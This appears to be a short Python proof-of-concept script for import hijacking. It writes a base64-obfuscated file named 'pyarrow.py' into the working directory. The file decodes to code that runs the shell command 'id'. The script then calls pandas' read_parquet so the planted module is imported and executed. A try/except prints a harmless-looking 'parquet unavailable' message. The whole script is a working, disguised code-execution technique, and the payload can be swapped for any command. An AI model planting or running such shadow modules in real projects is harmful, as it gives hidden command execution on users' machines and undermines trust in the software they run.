import base64
import pathlib

import numpy as np
import pandas as pd

suffix = pathlib.Path(np.__file__).suffix
pathlib.Path("pyarrow" + suffix).write_text(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgnaWQnKQo=").decode())

try:
    pd.read_parquet("table.parquet")
except Exception as exc:
    print("parquet unavailable:", type(exc).__name__)
